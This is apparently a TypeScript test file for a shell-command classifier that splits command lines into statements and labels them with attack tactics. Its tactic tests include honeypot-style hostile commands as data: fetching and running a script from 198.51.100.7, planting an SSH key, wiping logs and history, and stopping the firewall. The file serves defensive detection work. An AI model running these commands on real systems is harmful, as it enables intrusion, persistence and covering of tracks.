import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findPosterior } from './chain.ts';
import { listFeatures, readStatement } from './features.ts';
import { judgeStatements, statements_max, tactic_weights } from './judge-statements.ts';
import { splitStatements } from './statements.ts';

const texts = (line: string): string[] => splitStatements(line).map(({ text }) => text);

describe('statements of a shell line', () => {
  it('part at joints, not inside of quotes, not at redirections', () => {
    assert.deepEqual(texts(`cd /tmp || cd /var; echo "a;b|c" 'd && e' | wc -l && id & w`), [
      ...['cd /tmp', 'cd /var', `echo "a;b|c" 'd && e'`, 'wc -l', 'id', 'w'],
    ]);
    assert.deepEqual(texts('make >/dev/null 2>&1; ls &>x'), ['make >/dev/null 2>&1', 'ls &>x']);
    assert.deepEqual(texts('echo a\\;b;c'), ['echo a\\;b', 'c']);
  });

  it('part although a quote stays open, and are none in an empty line', () => {
    assert.deepEqual(texts("echo it's ; ls"), ["echo it's", 'ls']);
    assert.deepEqual(texts(' ;; | '), []);
  });

  it('say what joins them', () => {
    assert.deepEqual(
      splitStatements('a | b || c && d; e').map(({ joined_by }) => joined_by),
      ['', '|', '||', '&&', ';'],
    );
  });
});

describe('features of a statement', () => {
  it('see the program behind its wrappers, settings and paths', () => {
    for (const text of [
      'wget http://x/y',
      '/usr/bin/wget http://x/y',
      'sudo LC_ALL=C wget http://x/y',
      'busybox wget http://x/y',
    ])
      assert.equal(readStatement(text).program, 'wget', text);
    assert.equal(readStatement('./kworker -o x').program, 'a file left here');
    assert.equal(readStatement('xyzzy').program, 'no known program');
  });

  it('hold nothing of the words that they do not know', () => {
    const names = listFeatures([
      'xyzzy s3cr3t http://198.51.100.7/s3cr3t',
      'echo root:s3cr3t | chpasswd',
    ]).flat();
    assert.ok(!names.some((name) => /s3cr3t|xyzzy|198/.test(name)));
  });
});

describe('the chain', () => {
  it('gives the probabilities that counting all ways gives', () => {
    const scores = [
      [0.3, -1, 0.2],
      [1, 0.5, -0.4],
      [-2, 0.1, 0.7],
      [0, 0, 1.5],
    ].map((row) => Float64Array.from(row));
    const steps = [
      [0.5, -0.2, 0],
      [0.1, 1, -1],
      [0, 0.3, 0.4],
    ];
    const sums = scores.map(() => [0, 0, 0]);
    let all = 0;
    for (let way = 0; way < 3 ** 4; way++) {
      const labels = [0, 1, 2, 3].map((i) => Math.floor(way / 3 ** i) % 3);
      const weight = Math.exp(
        labels.reduce((sum, b, i) => sum + scores[i]![b]! + (i === 0 ? 0 : steps[labels[i - 1]!]![b]!), 0),
      );
      all += weight;
      labels.forEach((b, i) => {
        sums[i]![b]! += weight;
      });
    }
    const { places } = findPosterior(scores, steps);
    for (const [i, row] of places.entries())
      for (const [b, value] of row.entries()) assert.ok(Math.abs(value - sums[i]![b]! / all) < 1e-12);
  });
});

describe('tactics of statements', () => {
  // Judged by eye; made up after what robots on honeypots do.
  const expected: [string, string[]][] = [
    ['uname -a; cat /proc/cpuinfo | grep model | wc -l; free -m; w', Array(6).fill('Discovery')],
    [
      'cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh',
      ['Execution', 'Execution', 'Execution', 'Execution'],
    ],
    [
      'cd ~ && rm -rf .ssh && mkdir .ssh && echo ssh-rsa AAAAB3NzaC1yc2EAAAABJQ== me >> .ssh/authorized_keys && chmod -R go= ~/.ssh',
      Array(5).fill('Persistence'),
    ],
    [
      'uname -a; unset HISTFILE; rm -rf /var/log/wtmp; history -c',
      ['Discovery', ...Array(3).fill('Defense Evasion')],
    ],
    ['service iptables stop; killall -9 sshd', ['Impact', 'Impact']],
  ];
  for (const [line, tactics] of expected)
    it(line.slice(0, 60), () => {
      assert.deepEqual(
        judgeStatements([line])[0]!.map(({ tactic }) => tactic),
        tactics,
      );
    });

  it('are told with a probability and with reasons', () => {
    const [first] = judgeStatements(['uname -a', 'nproc'])[0]!;
    assert.ok(first!.confidence > 0.5 && first!.confidence <= 1);
    assert.ok(first!.because.length > 0 && first!.because.every((name) => tactic_weights.features.has(name)));
  });

  it('have a limit, lines have as many answers as there are lines, and hostile text does not hang', () => {
    const many = judgeStatements(Array.from({ length: 3000 }, () => 'id;w'));
    assert.equal(many.length, 3000);
    assert.equal(many.flat().length, statements_max);
    const began = performance.now();
    judgeStatements([
      `${'a'.repeat(1_000_000)} ${'/tmp/'.repeat(100_000)}`,
      "'".repeat(100_000),
      '$('.repeat(100_000),
    ]);
    assert.ok(performance.now() - began < 5000);
    assert.deepEqual(judgeStatements(['', '   ']), [[], []]);
  });
});
